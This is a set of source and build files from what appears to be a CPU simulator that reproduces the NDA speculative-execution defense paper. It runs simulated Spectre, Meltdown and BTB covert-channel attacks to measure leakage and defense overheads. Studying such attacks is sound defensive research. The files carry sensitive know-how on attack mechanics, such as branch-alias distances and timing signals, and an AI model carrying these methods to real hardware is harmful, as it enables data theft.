        "correct guess; BTB channel a ~16-cycle faster correct "
        "guess.\n");

    const SimConfig cfg = makeProfile(Profile::kOoo);
    const std::uint8_t secret = 42;

    ScopedTimer attack_timer(obs.timings, "attacks");
    SpectreV1Cache cache_attack;
    const AttackResult cache_r = cache_attack.run(cfg, secret);
    SpectreV1Btb btb_attack;
    const AttackResult btb_r = btb_attack.run(cfg, secret);
    attack_timer.stop();

    printSeries("d-cache", cache_r);
    printSeries("BTB", btb_r);

    std::printf("\nSummary (paper -> measured):\n");
    std::printf("  delta_cache  ~140 cycles -> %.0f cycles\n",
                cache_r.signal);
    std::printf("  delta_btb    ~16 cycles  -> %.0f cycles\n",
                btb_r.signal);
    std::printf("  both channels leak on insecure OoO: %s\n",
                cache_r.leaked() && btb_r.leaked() ? "yes" : "NO");

    emitBenchObs(obs, "fig04_covert_channels", Profile::kOoo, sp,
                 [&](RunManifest &m, StatsRegistry &) {
                     m.set("cache_signal", cache_r.signal);
                     m.set("btb_signal", btb_r.signal);
                 });
    return cache_r.leaked() && btb_r.leaked() ? 0 : 1;
}
