/**
 * @file
 * Regenerates paper Table 2: the NDA propagation policies (rows 1-6)
 * plus the InvisiSpec comparison rows, with the threat classes each
 * defeats and the measured geomean overhead versus insecure OoO.
 */

#include <cstdio>
#include <iterator>

#include "bench_common.hh"
#include "common/stats_util.hh"
#include "harness/table_printer.hh"

using namespace nda;

namespace {

struct RowSpec {
    Profile profile;
    const char *steeringMem; ///< control-steering (memory) column
    const char *steeringGpr; ///< control-steering (GPRs) column
    const char *chosenCode;  ///< chosen-code column
    double paperOverhead;    ///< paper's overhead vs OoO
};

} // namespace

int
main(int argc, char **argv)
{
    BenchObs obs;
    BenchCkpt ckpt;
    const SampleParams sp = parseSampleArgs(
        argc, argv,
        {"--mshr=", BenchCkpt::kUsageDir, BenchCkpt::kUsageMaxBytes,
         BenchCkpt::kUsageNoCkpt},
        &obs, &ckpt);
    unsigned mshr_entries = 0;
    for (int i = 1; i < argc; ++i) {
        const std::string arg = argv[i];
        if (arg.rfind("--mshr=", 0) == 0)
            mshr_entries = static_cast<unsigned>(
                parseFlagNumber(argv[0], arg, 7));
    }
    printBanner("Table 2: NDA propagation policies and the attacks "
                "they prevent (" + std::to_string(sp.jobs) + " jobs)");

    // Legend (from the paper): "all" = defeats all covert channels,
    // "no SSB" = all channels but store bypass still leaks, "partial"
    // = all channels except single-micro-op GPR attacks, "d-cache" =
    // cache-channel attacks only.
    const RowSpec rows[] = {
        {Profile::kPermissive, "yes (no SSB)", "-", "-", 0.107},
        {Profile::kPermissiveBr, "yes", "-", "-", 0.223},
        {Profile::kStrict, "yes (no SSB)", "partial", "-", 0.361},
        {Profile::kStrictBr, "yes", "partial", "-", 0.45},
        {Profile::kRestrictedLoads, "yes", "-", "yes", 1.00},
        {Profile::kFullProtection, "yes", "partial", "yes", 1.25},
        {Profile::kInvisiSpecSpectre, "d-cache only", "-", "-", 0.076},
        {Profile::kInvisiSpecFuture, "d-cache only", "-",
         "d-cache only", 0.327},
    };

    // Measure the overheads: one grid over all workloads x (baseline
    // OoO + the eight mechanism rows), every window concurrent.
    const auto workloads = makeAllWorkloads();
    std::vector<SimConfig> configs{makeProfile(Profile::kOoo)};
    for (const RowSpec &row : rows)
        configs.push_back(makeProfile(row.profile));
    for (SimConfig &cfg : configs)
        cfg.memory.mshrEntries = mshr_entries;
    const std::unique_ptr<CheckpointStore> corpus = ckpt.open();
    GridStats grid_stats;
    ScopedTimer grid_timer(obs.timings, "grid");
    const std::vector<RunResult> grid = runGrid(
        workloads, configs, sp, gridProgress, &grid_stats,
        corpus.get());
    grid_timer.stop();

    TablePrinter t({"mechanism", "ctrl-steer (mem)", "ctrl-steer "
                    "(GPRs)", "chosen code", "overhead (paper)",
                    "overhead (measured)"});
    const std::size_t ncfg = configs.size();
    for (std::size_t r = 0; r < std::size(rows); ++r) {
        const RowSpec &row = rows[r];
        std::vector<double> rel;
        for (std::size_t i = 0; i < workloads.size(); ++i) {
            const double base_cpi = grid[i * ncfg].mean.cpi;
            const double cpi = grid[i * ncfg + r + 1].mean.cpi;
            rel.push_back(cpi / base_cpi);
        }
        const double overhead = geomean(rel) - 1.0;
        t.addRow({profileName(row.profile), row.steeringMem,
                  row.steeringGpr, row.chosenCode,
                  TablePrinter::pct(row.paperOverhead),
                  TablePrinter::pct(overhead)});
    }
    t.print();

    std::printf("\nNotes: overheads are geomean CPI increases vs "
                "insecure OoO over\nthe 16-kernel suite (SPEC 2017 "
                "substitute; see DESIGN.md section 4).\nBypass "
                "Restriction adds little here because split "
                "store-address\nmicro-ops resolve quickly in these "
                "kernels; see EXPERIMENTS.md.\n");

    emitBenchObs(obs, "table02_overheads", Profile::kStrict, sp,
                 [&](RunManifest &m, StatsRegistry &reg) {
                     m.set("mshr_entries",
                           static_cast<std::uint64_t>(mshr_entries));
                     grid_stats.registerStats(reg, "harness");
                 });
    return 0;
}
