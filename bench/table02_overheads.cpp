/**
 * @file
 * Regenerates paper Table 2: the NDA propagation policies (rows 1-6)
 * plus the InvisiSpec comparison rows, with the threat classes each
 * defeats and the measured geomean overhead versus insecure OoO.
 *
 * With --cpi-stack each mechanism's CPI delta over the baseline is
 * decomposed by root cause (pooled over workloads), printed as a
 * table and exported with --csv= — the overhead column, explained
 * term by term with zero residue.
 */

#include <array>
#include <cstdio>
#include <iterator>

#include "bench_common.hh"
#include "common/stats_util.hh"
#include "harness/csv.hh"
#include "harness/table_printer.hh"

using namespace nda;

namespace {

struct RowSpec {
    Profile profile;
    const char *steeringMem; ///< control-steering (memory) column
    const char *steeringGpr; ///< control-steering (GPRs) column
    const char *chosenCode;  ///< chosen-code column
    double paperOverhead;    ///< paper's overhead vs OoO
};

} // namespace

int
main(int argc, char **argv)
{
    BenchObs obs;
    BenchCkpt ckpt;
    BenchSmt smt;
    const SampleParams sp = parseSampleArgs(
        argc, argv,
        {"--csv=", "--mshr=", BenchSmt::kUsageSmt,
         BenchSmt::kUsagePolicy, BenchCkpt::kUsageDir,
         BenchCkpt::kUsageMaxBytes, BenchCkpt::kUsageNoCkpt},
        &obs, &ckpt, &smt);
    std::string csv_path;
    unsigned mshr_entries = 0;
    for (int i = 1; i < argc; ++i) {
        const std::string arg = argv[i];
        if (arg.rfind("--csv=", 0) == 0)
            csv_path = arg.substr(6);
        else if (arg.rfind("--mshr=", 0) == 0)
            mshr_entries = static_cast<unsigned>(
                parseFlagNumber(argv[0], arg, 7));
    }
    printBanner("Table 2: NDA propagation policies and the attacks "
                "they prevent (" + std::to_string(sp.jobs) + " jobs)");

    // Legend (from the paper): "all" = defeats all covert channels,
    // "no SSB" = all channels but store bypass still leaks, "partial"
    // = all channels except single-micro-op GPR attacks, "d-cache" =
    // cache-channel attacks only.
    const RowSpec rows[] = {
        {Profile::kPermissive, "yes (no SSB)", "-", "-", 0.107},
        {Profile::kPermissiveBr, "yes", "-", "-", 0.223},
        {Profile::kStrict, "yes (no SSB)", "partial", "-", 0.361},
        {Profile::kStrictBr, "yes", "partial", "-", 0.45},
        {Profile::kRestrictedLoads, "yes", "-", "yes", 1.00},
        {Profile::kFullProtection, "yes", "partial", "yes", 1.25},
        {Profile::kInvisiSpecSpectre, "d-cache only", "-", "-", 0.076},
        {Profile::kInvisiSpecFuture, "d-cache only", "-",
         "d-cache only", 0.327},
    };

    // Measure the overheads: one grid over all workloads x (baseline
    // OoO + the eight mechanism rows), every window concurrent.
    const auto workloads = makeAllWorkloads();
    std::vector<SimConfig> configs{makeProfile(Profile::kOoo)};
    for (const RowSpec &row : rows)
        configs.push_back(makeProfile(row.profile));
    for (SimConfig &cfg : configs) {
        cfg.memory.mshrEntries = mshr_entries;
        smt.apply(cfg);
    }
    const std::unique_ptr<CheckpointStore> corpus = ckpt.open();
    GridStats grid_stats;
    ScopedTimer grid_timer(obs.timings, "grid");
    const std::vector<RunResult> grid = runGrid(
        workloads, configs, sp, gridProgress, &grid_stats,
        corpus.get());
    grid_timer.stop();

    TablePrinter t({"mechanism", "ctrl-steer (mem)", "ctrl-steer "
                    "(GPRs)", "chosen code", "overhead (paper)",
                    "overhead (measured)"});
    const std::size_t ncfg = configs.size();
    std::vector<double> overheads;
    for (std::size_t r = 0; r < std::size(rows); ++r) {
        const RowSpec &row = rows[r];
        std::vector<double> rel;
        for (std::size_t i = 0; i < workloads.size(); ++i) {
            const double base_cpi = grid[i * ncfg].mean.cpi;
            const double cpi = grid[i * ncfg + r + 1].mean.cpi;
            rel.push_back(cpi / base_cpi);
        }
        const double overhead = geomean(rel) - 1.0;
        overheads.push_back(overhead);
        t.addRow({profileName(row.profile), row.steeringMem,
                  row.steeringGpr, row.chosenCode,
                  TablePrinter::pct(row.paperOverhead),
                  TablePrinter::pct(overhead)});
    }
    t.print();

    // ---- CPI-delta attribution (--cpi-stack) -------------------------
    // Pooled per-config decomposition: contribution of cause c is
    // slots_c / (width x insts), so the per-cause deltas of each
    // mechanism vs the baseline sum *exactly* to its pooled CPI delta.
    std::vector<std::array<double, kNumStallCauses>> contrib(ncfg);
    std::vector<double> pooled_cpi(ncfg, 0.0);
    if (sp.cpiStack) {
        for (std::size_t ci = 0; ci < ncfg; ++ci) {
            std::array<std::uint64_t, kNumStallCauses> slots{};
            std::uint64_t insts = 0;
            std::uint64_t cycles = 0;
            unsigned width = 0;
            for (std::size_t i = 0; i < workloads.size(); ++i) {
                const RunResult &r = grid[i * ncfg + ci];
                for (int c = 0; c < kNumStallCauses; ++c)
                    slots[c] += r.mean.slotStack[c];
                insts += r.mean.instructions;
                cycles += r.mean.cycles;
                width = r.mean.slotWidth;
            }
            const double den = static_cast<double>(width) *
                               static_cast<double>(insts);
            for (int c = 0; c < kNumStallCauses; ++c)
                contrib[ci][c] =
                    den ? static_cast<double>(slots[c]) / den : 0.0;
            pooled_cpi[ci] =
                insts ? static_cast<double>(cycles) /
                            static_cast<double>(insts)
                      : 0.0;
        }
        std::printf("\nCPI-delta attribution vs OoO (cycles/inst, "
                    "workloads pooled;\ncolumns sum to the pooled CPI "
                    "delta):\n");
        std::vector<std::string> dhdr{"cause"};
        for (const RowSpec &row : rows)
            dhdr.push_back(profileName(row.profile));
        TablePrinter dt(dhdr);
        for (int c = 0; c < kNumStallCauses; ++c) {
            bool any = false;
            for (std::size_t r = 0; r < std::size(rows); ++r)
                any = any || contrib[r + 1][c] != contrib[0][c];
            if (!any)
                continue;
            std::vector<std::string> drow{
                stallCauseName(static_cast<StallCause>(c))};
            for (std::size_t r = 0; r < std::size(rows); ++r)
                drow.push_back(TablePrinter::fmt(
                    contrib[r + 1][c] - contrib[0][c], 3));
            dt.addRow(drow);
        }
        std::vector<std::string> dsum{"dCPI (sum)"};
        for (std::size_t r = 0; r < std::size(rows); ++r)
            dsum.push_back(TablePrinter::fmt(
                pooled_cpi[r + 1] - pooled_cpi[0], 3));
        dt.addRow(dsum);
        dt.print();
    }

    if (!csv_path.empty()) {
        CsvWriter csv(csv_path);
        std::vector<std::string> hdr{"mechanism", "overhead_paper",
                                     "overhead_measured"};
        if (sp.cpiStack) {
            hdr.push_back("pooled_cpi");
            hdr.push_back("delta_cpi");
            for (int c = 0; c < kNumStallCauses; ++c)
                hdr.push_back(std::string("delta_") +
                              stallCauseStatName(
                                  static_cast<StallCause>(c)));
        }
        csv.row(hdr);
        for (std::size_t r = 0; r < std::size(rows); ++r) {
            std::vector<std::string> line{
                profileName(rows[r].profile),
                CsvWriter::num(rows[r].paperOverhead, 4),
                CsvWriter::num(overheads[r], 4)};
            if (sp.cpiStack) {
                line.push_back(CsvWriter::num(pooled_cpi[r + 1], 6));
                line.push_back(CsvWriter::num(
                    pooled_cpi[r + 1] - pooled_cpi[0], 6));
                for (int c = 0; c < kNumStallCauses; ++c)
                    line.push_back(CsvWriter::num(
                        contrib[r + 1][c] - contrib[0][c], 6));
            }
            csv.row(line);
        }
        NDA_INFORM("wrote %s", csv_path.c_str());
    }

    std::printf("\nNotes: overheads are geomean CPI increases vs "
                "insecure OoO over\nthe 16-kernel suite (SPEC 2017 "
                "substitute; see DESIGN.md section 4).\nBypass "
                "Restriction adds little here because split "
                "store-address\nmicro-ops resolve quickly in these "
                "kernels; see EXPERIMENTS.md.\n");

    emitBenchObs(obs, "table02_overheads", Profile::kStrict, sp,
                 [&](RunManifest &m, StatsRegistry &reg) {
                     m.set("mshr_entries",
                           static_cast<std::uint64_t>(mshr_entries));
                     grid_stats.registerStats(reg, "harness");
                 });
    return 0;
}
