/**
 * @file
 * Ablation studies of the design parameters DESIGN.md calls out —
 * each one isolates a mechanism the paper's results depend on:
 *
 *  A. trap-delivery latency — the wrong-path window Meltdown-class
 *     chosen-code attacks race against (paper §3.1/§4.3)
 *  B. BTB partial-tag width — the aliasing surface Spectre v2 needs
 *  C. retire-wake latency — the cost driver of load restriction
 *  D. front-end depth — sets the mispredict penalty and therefore
 *     the BTB covert channel's signal (paper Fig 5)
 *  E. ROB size — how NDA overheads scale with the window
 */

#include <cstdio>

#include <algorithm>

#include "attacks/attacks.hh"
#include "attacks/covert_channel.hh"
#include "core/core_factory.hh"
#include "bench_common.hh"
#include "common/stats_util.hh"
#include "harness/table_printer.hh"

using namespace nda;

namespace {

double
suiteGeomean(const SimConfig &cfg, const SampleParams &sp,
             std::initializer_list<const char *> names)
{
    std::vector<std::unique_ptr<Workload>> ws;
    for (const char *n : names)
        ws.push_back(makeWorkload(n));
    SampleParams one = sp;
    one.samples = 1;
    const std::vector<RunResult> grid =
        runGrid(ws, {cfg}, one);
    std::vector<double> cpis;
    for (const RunResult &r : grid)
        cpis.push_back(r.mean.cpi);
    return geomean(cpis);
}

} // namespace

int
main(int argc, char **argv)
{
    BenchObs obs;
    SampleParams sp = parseSampleArgs(argc, argv, {}, &obs);
    sp.measureInsts = std::min<std::uint64_t>(sp.measureInsts, 50'000);
    ScopedTimer ablation_timer(obs.timings, "ablations");

    printBanner("Ablation A: trap-delivery latency vs Meltdown leak "
                "window");
    {
        TablePrinter t({"faultLatency (cycles)", "leak signal",
                        "meltdown outcome"});
        Meltdown atk;
        for (unsigned lat : {0u, 2u, 4u, 8u, 16u, 32u}) {
            SimConfig cfg = makeProfile(Profile::kOoo);
            cfg.core.faultLatency = lat;
            const AttackResult r = atk.run(cfg, 42);
            t.addRow({std::to_string(lat),
                      TablePrinter::fmt(r.signal, 1),
                      r.leaked() ? "LEAK" : "blocked"});
        }
        t.print();
        std::printf("Expected: with (near-)instant trap delivery the "
                    "transmit chain\nnever executes — the Meltdown "
                    "race needs a window.\n");
    }

    printBanner("Ablation B: BTB partial-tag width vs Spectre v2");
    {
        TablePrinter t({"tag bits", "v2 outcome"});
        SpectreV2 atk;
        for (unsigned bits : {4u, 6u, 10u, 16u}) {
            SimConfig cfg = makeProfile(Profile::kOoo);
            // Bypass the attack's own adjustConfig by setting after.
            const Program prog = atk.build(42);
            cfg.core.predictor.btb.tagBits = bits;
            auto core = makeCore(prog, cfg);
            core->run(~std::uint64_t{0}, 40'000'000);
            // Reuse the attack's evaluation by re-running via run()
            // only for the 4-bit case; for others evaluate manually.
            AttackResult r;
            r.secret = 42;
            r.threshold = atk.signalThreshold();
            std::array<double, 256> times{};
            for (int g = 0; g < 256; ++g) {
                times[g] = static_cast<double>(core->mem().read(
                    attack_layout::kResultsBase +
                        static_cast<Addr>(g) * 8, 8));
            }
            r.timings = times;
            auto sorted = times;
            std::nth_element(sorted.begin(), sorted.begin() + 128,
                             sorted.end());
            r.signal = sorted[128] - times[42];
            t.addRow({std::to_string(bits),
                      r.leaked() ? "LEAK" : "blocked"});
        }
        t.print();
        std::printf("Expected: the PoC places its trainer branch at "
                    "the 4-bit alias\ndistance; longer partial tags "
                    "break the aliasing and the attack.\n");
    }

    printBanner("Ablation C: retire-wake latency vs load-restriction "
                "cost");
    {
        TablePrinter t({"retireWakeDelay", "Restricted-Loads CPI "
                        "(rel. to delay 1)"});
        double base = 0;
        for (unsigned d : {1u, 2u, 3u, 5u}) {
            SimConfig cfg = makeProfile(Profile::kRestrictedLoads);
            cfg.core.retireWakeDelay = d;
            const double g = suiteGeomean(
                cfg, sp, {"compute", "crc", "matmul", "gametree"});
            if (d == 1)
                base = g;
            t.addRow({std::to_string(d),
                      TablePrinter::fmt(g / base, 3)});
        }
        t.print();
    }

    printBanner("Ablation D: front-end depth vs mispredict penalty "
                "(BTB channel signal)");
    {
        TablePrinter t({"frontendDelay", "BTB signal (cycles)",
                        "baseline CPI (branchy)"});
        SpectreV1Btb atk;
        for (unsigned d : {6u, 12u, 18u}) {
            SimConfig cfg = makeProfile(Profile::kOoo);
            cfg.core.frontendDelay = d;
            const AttackResult r = atk.run(cfg, 42);
            SimConfig perf_cfg = makeProfile(Profile::kOoo);
            perf_cfg.core.frontendDelay = d;
            auto w = makeWorkload("branchy");
            const double cpi =
                runWindow(*w, perf_cfg, sp.baseSeed, sp).cpi;
            t.addRow({std::to_string(d),
                      TablePrinter::fmt(r.signal, 1),
                      TablePrinter::fmt(cpi, 2)});
        }
        t.print();
        std::printf("Expected: a deeper front end raises both the "
                    "mispredict penalty\n(the covert signal, paper "
                    "Fig 5) and branchy code's CPI.\n");
    }

    printBanner("Ablation E: ROB size vs NDA overhead");
    {
        TablePrinter t({"ROB entries", "OoO CPI", "Full-Protection "
                        "CPI", "overhead"});
        for (unsigned rob : {64u, 128u, 192u, 256u}) {
            SimConfig ooo = makeProfile(Profile::kOoo);
            SimConfig full = makeProfile(Profile::kFullProtection);
            ooo.core.robEntries = full.core.robEntries = rob;
            ooo.core.numPhysRegs = full.core.numPhysRegs = rob + 64;
            const double a =
                suiteGeomean(ooo, sp, {"gametree", "compute", "crc"});
            const double c =
                suiteGeomean(full, sp, {"gametree", "compute", "crc"});
            t.addRow({std::to_string(rob), TablePrinter::fmt(a, 3),
                      TablePrinter::fmt(c, 3),
                      TablePrinter::pct(c / a - 1.0)});
        }
        t.print();
        std::printf("Expected: NDA's relative overhead grows with the "
                    "window the\nrestrictions apply to.\n");
    }

    ablation_timer.stop();
    emitBenchObs(obs, "ablation_design_points", Profile::kStrict, sp);
    return 0;
}
