file(REMOVE_RECURSE
  "CMakeFiles/rob_snapshot.dir/rob_snapshot.cpp.o"
  "CMakeFiles/rob_snapshot.dir/rob_snapshot.cpp.o.d"
  "rob_snapshot"
  "rob_snapshot.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/rob_snapshot.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
