# Empty compiler generated dependencies file for rob_snapshot.
# This may be replaced when dependencies are built.
