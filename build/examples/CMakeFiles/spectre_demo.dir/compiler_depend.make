# Empty compiler generated dependencies file for spectre_demo.
# This may be replaced when dependencies are built.
