# Empty compiler generated dependencies file for ndasim_tests.
# This may be replaced when dependencies are built.
