
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/tests/test_attacks.cc" "tests/CMakeFiles/ndasim_tests.dir/test_attacks.cc.o" "gcc" "tests/CMakeFiles/ndasim_tests.dir/test_attacks.cc.o.d"
  "/root/repo/tests/test_branch.cc" "tests/CMakeFiles/ndasim_tests.dir/test_branch.cc.o" "gcc" "tests/CMakeFiles/ndasim_tests.dir/test_branch.cc.o.d"
  "/root/repo/tests/test_common.cc" "tests/CMakeFiles/ndasim_tests.dir/test_common.cc.o" "gcc" "tests/CMakeFiles/ndasim_tests.dir/test_common.cc.o.d"
  "/root/repo/tests/test_core_edge.cc" "tests/CMakeFiles/ndasim_tests.dir/test_core_edge.cc.o" "gcc" "tests/CMakeFiles/ndasim_tests.dir/test_core_edge.cc.o.d"
  "/root/repo/tests/test_core_structures.cc" "tests/CMakeFiles/ndasim_tests.dir/test_core_structures.cc.o" "gcc" "tests/CMakeFiles/ndasim_tests.dir/test_core_structures.cc.o.d"
  "/root/repo/tests/test_covert_channel.cc" "tests/CMakeFiles/ndasim_tests.dir/test_covert_channel.cc.o" "gcc" "tests/CMakeFiles/ndasim_tests.dir/test_covert_channel.cc.o.d"
  "/root/repo/tests/test_differential.cc" "tests/CMakeFiles/ndasim_tests.dir/test_differential.cc.o" "gcc" "tests/CMakeFiles/ndasim_tests.dir/test_differential.cc.o.d"
  "/root/repo/tests/test_harness.cc" "tests/CMakeFiles/ndasim_tests.dir/test_harness.cc.o" "gcc" "tests/CMakeFiles/ndasim_tests.dir/test_harness.cc.o.d"
  "/root/repo/tests/test_inorder.cc" "tests/CMakeFiles/ndasim_tests.dir/test_inorder.cc.o" "gcc" "tests/CMakeFiles/ndasim_tests.dir/test_inorder.cc.o.d"
  "/root/repo/tests/test_interpreter.cc" "tests/CMakeFiles/ndasim_tests.dir/test_interpreter.cc.o" "gcc" "tests/CMakeFiles/ndasim_tests.dir/test_interpreter.cc.o.d"
  "/root/repo/tests/test_invisispec.cc" "tests/CMakeFiles/ndasim_tests.dir/test_invisispec.cc.o" "gcc" "tests/CMakeFiles/ndasim_tests.dir/test_invisispec.cc.o.d"
  "/root/repo/tests/test_isa.cc" "tests/CMakeFiles/ndasim_tests.dir/test_isa.cc.o" "gcc" "tests/CMakeFiles/ndasim_tests.dir/test_isa.cc.o.d"
  "/root/repo/tests/test_memory.cc" "tests/CMakeFiles/ndasim_tests.dir/test_memory.cc.o" "gcc" "tests/CMakeFiles/ndasim_tests.dir/test_memory.cc.o.d"
  "/root/repo/tests/test_nda.cc" "tests/CMakeFiles/ndasim_tests.dir/test_nda.cc.o" "gcc" "tests/CMakeFiles/ndasim_tests.dir/test_nda.cc.o.d"
  "/root/repo/tests/test_ooo_core.cc" "tests/CMakeFiles/ndasim_tests.dir/test_ooo_core.cc.o" "gcc" "tests/CMakeFiles/ndasim_tests.dir/test_ooo_core.cc.o.d"
  "/root/repo/tests/test_pipe_trace.cc" "tests/CMakeFiles/ndasim_tests.dir/test_pipe_trace.cc.o" "gcc" "tests/CMakeFiles/ndasim_tests.dir/test_pipe_trace.cc.o.d"
  "/root/repo/tests/test_random_program.cc" "tests/CMakeFiles/ndasim_tests.dir/test_random_program.cc.o" "gcc" "tests/CMakeFiles/ndasim_tests.dir/test_random_program.cc.o.d"
  "/root/repo/tests/test_specoff.cc" "tests/CMakeFiles/ndasim_tests.dir/test_specoff.cc.o" "gcc" "tests/CMakeFiles/ndasim_tests.dir/test_specoff.cc.o.d"
  "/root/repo/tests/test_transform.cc" "tests/CMakeFiles/ndasim_tests.dir/test_transform.cc.o" "gcc" "tests/CMakeFiles/ndasim_tests.dir/test_transform.cc.o.d"
  "/root/repo/tests/test_workloads.cc" "tests/CMakeFiles/ndasim_tests.dir/test_workloads.cc.o" "gcc" "tests/CMakeFiles/ndasim_tests.dir/test_workloads.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/CMakeFiles/ndasim.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
