file(REMOVE_RECURSE
  "CMakeFiles/table01_attack_matrix.dir/table01_attack_matrix.cpp.o"
  "CMakeFiles/table01_attack_matrix.dir/table01_attack_matrix.cpp.o.d"
  "table01_attack_matrix"
  "table01_attack_matrix.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/table01_attack_matrix.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
