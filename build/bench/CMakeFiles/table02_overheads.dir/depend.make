# Empty dependencies file for table02_overheads.
# This may be replaced when dependencies are built.
