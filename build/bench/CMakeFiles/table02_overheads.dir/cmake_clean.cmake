file(REMOVE_RECURSE
  "CMakeFiles/table02_overheads.dir/table02_overheads.cpp.o"
  "CMakeFiles/table02_overheads.dir/table02_overheads.cpp.o.d"
  "table02_overheads"
  "table02_overheads.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/table02_overheads.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
