file(REMOVE_RECURSE
  "CMakeFiles/fig04_covert_channels.dir/fig04_covert_channels.cpp.o"
  "CMakeFiles/fig04_covert_channels.dir/fig04_covert_channels.cpp.o.d"
  "fig04_covert_channels"
  "fig04_covert_channels.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/fig04_covert_channels.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
