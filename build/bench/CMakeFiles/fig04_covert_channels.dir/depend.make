# Empty dependencies file for fig04_covert_channels.
# This may be replaced when dependencies are built.
