# Empty dependencies file for table03_config.
# This may be replaced when dependencies are built.
