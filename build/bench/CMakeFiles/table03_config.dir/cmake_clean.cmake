file(REMOVE_RECURSE
  "CMakeFiles/table03_config.dir/table03_config.cpp.o"
  "CMakeFiles/table03_config.dir/table03_config.cpp.o.d"
  "table03_config"
  "table03_config.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/table03_config.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
