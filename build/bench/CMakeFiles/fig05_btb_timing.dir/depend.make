# Empty dependencies file for fig05_btb_timing.
# This may be replaced when dependencies are built.
