file(REMOVE_RECURSE
  "CMakeFiles/fig05_btb_timing.dir/fig05_btb_timing.cpp.o"
  "CMakeFiles/fig05_btb_timing.dir/fig05_btb_timing.cpp.o.d"
  "fig05_btb_timing"
  "fig05_btb_timing.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/fig05_btb_timing.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
