# Empty compiler generated dependencies file for fig07_cpi.
# This may be replaced when dependencies are built.
