file(REMOVE_RECURSE
  "CMakeFiles/fig07_cpi.dir/fig07_cpi.cpp.o"
  "CMakeFiles/fig07_cpi.dir/fig07_cpi.cpp.o.d"
  "fig07_cpi"
  "fig07_cpi.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/fig07_cpi.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
