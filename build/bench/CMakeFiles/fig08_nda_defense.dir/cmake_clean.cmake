file(REMOVE_RECURSE
  "CMakeFiles/fig08_nda_defense.dir/fig08_nda_defense.cpp.o"
  "CMakeFiles/fig08_nda_defense.dir/fig08_nda_defense.cpp.o.d"
  "fig08_nda_defense"
  "fig08_nda_defense.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/fig08_nda_defense.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
