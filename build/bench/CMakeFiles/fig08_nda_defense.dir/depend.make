# Empty dependencies file for fig08_nda_defense.
# This may be replaced when dependencies are built.
