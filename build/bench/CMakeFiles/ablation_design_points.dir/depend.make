# Empty dependencies file for ablation_design_points.
# This may be replaced when dependencies are built.
