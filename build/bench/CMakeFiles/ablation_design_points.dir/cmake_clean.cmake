file(REMOVE_RECURSE
  "CMakeFiles/ablation_design_points.dir/ablation_design_points.cpp.o"
  "CMakeFiles/ablation_design_points.dir/ablation_design_points.cpp.o.d"
  "ablation_design_points"
  "ablation_design_points.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ablation_design_points.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
