# Empty dependencies file for ndasim.
# This may be replaced when dependencies are built.
