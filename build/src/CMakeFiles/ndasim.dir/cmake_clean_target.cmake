file(REMOVE_RECURSE
  "libndasim.a"
)
