
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/attacks/attack_base.cc" "src/CMakeFiles/ndasim.dir/attacks/attack_base.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/attacks/attack_base.cc.o.d"
  "/root/repo/src/attacks/attack_registry.cc" "src/CMakeFiles/ndasim.dir/attacks/attack_registry.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/attacks/attack_registry.cc.o.d"
  "/root/repo/src/attacks/covert_channel.cc" "src/CMakeFiles/ndasim.dir/attacks/covert_channel.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/attacks/covert_channel.cc.o.d"
  "/root/repo/src/attacks/lazyfp.cc" "src/CMakeFiles/ndasim.dir/attacks/lazyfp.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/attacks/lazyfp.cc.o.d"
  "/root/repo/src/attacks/meltdown.cc" "src/CMakeFiles/ndasim.dir/attacks/meltdown.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/attacks/meltdown.cc.o.d"
  "/root/repo/src/attacks/ret2spec.cc" "src/CMakeFiles/ndasim.dir/attacks/ret2spec.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/attacks/ret2spec.cc.o.d"
  "/root/repo/src/attacks/spectre_btb.cc" "src/CMakeFiles/ndasim.dir/attacks/spectre_btb.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/attacks/spectre_btb.cc.o.d"
  "/root/repo/src/attacks/spectre_gpr.cc" "src/CMakeFiles/ndasim.dir/attacks/spectre_gpr.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/attacks/spectre_gpr.cc.o.d"
  "/root/repo/src/attacks/spectre_v1.cc" "src/CMakeFiles/ndasim.dir/attacks/spectre_v1.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/attacks/spectre_v1.cc.o.d"
